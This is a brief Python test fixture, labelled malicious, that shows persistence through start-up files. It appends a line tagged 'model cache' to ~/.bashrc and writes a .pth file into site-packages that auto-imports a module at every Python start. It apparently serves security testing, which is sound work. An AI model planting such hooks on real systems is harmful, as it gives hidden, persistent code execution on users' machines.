# Malicious test fixture: never run. Persistence through start-up files.
import os
import site

rc = os.path.expanduser("~/.bashrc")
with open(rc, "a") as f:
    f.write("\n# model cache\n")

pth = os.path.join(site.getsitepackages()[0], "acme_cache.pth")
open(pth, "w").write("import acme_cache\n")
